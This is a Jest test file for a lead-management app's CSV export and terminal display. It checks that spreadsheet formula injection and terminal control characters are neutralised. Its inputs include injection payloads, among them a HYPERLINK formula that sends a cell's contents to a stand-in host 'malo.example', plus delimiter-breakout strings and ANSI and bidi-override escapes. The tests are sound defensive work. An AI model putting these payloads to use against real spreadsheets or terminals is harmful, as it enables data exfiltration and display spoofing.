/** @jest-environment node */
import { parse } from 'csv-parse/sync';

import type { Lead } from '@/api/leads';
import { csvHeader, csvRows } from '@/api/leads-csv';
import { pages } from '@/content/pages';
import { sampleRequest } from '@/lib/lead/sample-request';

import { lineOf, terminalText } from './terminal';

const ana: Lead = {
  id: 12,
  receivedAt: Date.parse('2026-11-22T01:05:09Z'),
  times: 2,
  ...sampleRequest,
  name: 'Ana "la contadora", Peña',
  services: 'Declaración de Renta, RUT',
  message: 'uno\r\ndos',
  notice: 'abc',
  marks: ['enlaces'],
  doneAt: null,
  hiddenAt: null,
  page: '',
};

test('a Colombian spreadsheet opens the table in columns, with days and hours that it reads', () => {
  expect(
    csvHeader +
      csvRows([
        { ...ana, page: pages.incomeTax.path },
        { ...ana, id: 3, doneAt: 1 },
      ]),
  ).toBe(
    [
      '\uFEFFFecha;Hora;Estado;Nombre;Celular;Correo;Servicios;Mensaje;Página;Veces;Contacto',
      `2026-11-21;20:05;espera;"Ana ""la contadora"", Peña";300 123 4567;ana@correo.example;Declaración de Renta, RUT;"uno\r\ndos";${pages.incomeTax.label};2;12`,
      '2026-11-21;20:05;respondido;"Ana ""la contadora"", Peña";300 123 4567;ana@correo.example;Declaración de Renta, RUT;"uno\r\ndos";;2;3',
      '',
    ].join('\r\n'),
  );
});

test.each([
  ...['=1+1', '+57', '-1', '@SUM(A1)', '\t=1', '＝1+1', ' =1+1', '\r=1'],
  ...[
    'hola;=HYPERLINK("http://malo.example/?"&A2;"ver")',
    'a,=1+1',
    'a\t=1+1',
    'a\n=1+1',
    'a,"=1+1"',
    '";=1+1',
    '",=1+1',
  ],
])('a spreadsheet reads no formula in %j, whatever its delimiter', (typed) => {
  for (const delimiter of [';', ',', '\t']) {
    for (const field of ['name', 'message']) {
      const rows: string[][] = parse(csvHeader + csvRows([{ ...ana, [field]: typed }]), {
        ...{ delimiter, bom: true, relax_quotes: true, relax_column_count: true },
      });
      expect(rows.flat().filter((cell) => /^["\s]*[=+@＝-]/.test(cell))).toEqual([]);
    }
  }
});

test.each(['uno\rdos', 'uno\ndos', '\r=1'])('a spreadsheet keeps %j in one cell', (typed) => {
  expect(csvRows([{ ...ana, message: typed }]).replaceAll("'", '')).toContain(`;"${typed}";`);
});

test.each([
  ['Ana Peña 🧾', 'Ana Peña 🧾'],
  ['a\nb\r\nc', 'a ⏎ b ⏎ c'],
  ['\u001b[31mrojo', '\\u{1b}[31mrojo'],
  ['\u202etxt.exe', '\\u{202e}txt.exe'],
  ['\u200b\ud800', '\\u{200b}\\u{d800}'],
  ['🧾'.repeat(100), `${'🧾'.repeat(79)}…`],
])('the terminal shows %j as %j', (typed, shown) => expect(terminalText(typed, 80)).toBe(shown));

test('a lead is one line of the terminal, without control characters', () => {
  const line = lineOf({ ...ana, name: 'Ana\u001b[2J\u202e' }, 120);
  expect(line).toMatch(/^ +12 +2026-11-21 20:05 +espera +⚠ enlaces +Ana\\u\{1b\}\[2J/);
  expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  expect(line.length).toBeLessThanOrEqual(120);
  expect(lineOf({ ...ana, page: pages.incomeTax.path }, 300)).toContain(`desde ${pages.incomeTax.label}`);
});
